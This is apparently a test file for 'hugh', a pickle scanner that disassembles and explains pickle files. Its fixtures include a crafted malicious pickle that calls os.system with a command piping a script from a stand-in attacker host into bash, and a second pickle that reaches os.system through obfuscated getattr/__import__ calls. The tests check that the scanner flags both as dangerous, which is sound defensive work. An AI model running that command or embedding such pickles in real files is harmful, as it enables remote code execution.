@@ -1,0 +1,51 @@
+-- What `hugh explain` shows: the program, and the opcodes as pickletools writes them.
+local hugh = require "hugh"
+
+local function unhex(text)
+  return (text:gsub("%x%x", function(pair) return string.char(tonumber(pair, 16)) end))
+end
+
+local function opcodes(data)
+  local entry = assert(hugh.explain({ data = data, name = "x.pkl" }, { opcodes = true }))
+  local lines = {}
+  for i, line in ipairs(entry.lines) do
+    lines[i] = (line.offset and ("%5.0f: "):format(line.offset) or "") .. line.text
+  end
+  return table.concat(lines, "\n")
+end
+
+describe("explaining a pickle", function()
+  it("disassembles as pickletools does", function()
+    local pipe = assert(io.popen "PYTHONIOENCODING=utf-8:surrogatepass /usr/bin/python3 spec/oracle/pickletools_oracle.py")
+    local ran, data, lines = 0, nil, {}
+    for line in pipe:lines() do
+      if not data then
+        data = line
+      elseif line ~= "" then
+        lines[#lines + 1] = line
+      else
+        assert.are.equal(table.concat(lines, "\n"), opcodes(unhex(data)), data)
+        ran, data, lines = ran + 1, nil, {}
+      end
+    end
+    pipe:close()
+    assert.is_true(ran > 500)
+  end)
+
+  it("says what is called with what", function()
+    local entry = assert(hugh.explain { data = "cos\nsystem\n(S'curl evil.example/x.sh | bash'\ntR.", name = "x.pkl" })
+    assert.are.equal("from os import system", entry.lines[1].text)
+    assert.are.equal("os.system('curl evil.example/x.sh | bash')", entry.lines[2].text)
+    assert.are.equal("dangerous", entry.lines[2].safety)
+  end)
+
+  it("follows names that are put together", function()
+    local data = "cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'true'\ntR."
+    local report = assert(hugh.scan({ data = data, name = "x.pkl" }))
+    local file = report.files and report.files[1] or report
+    assert.are.equal("dangerous", file.safety)
+    local called = {}
+    for _, global in ipairs(file.globals) do called[global.module .. "." .. global.name] = global.called end
+    assert.is_true(called["os.system"])
+  end)
+end)
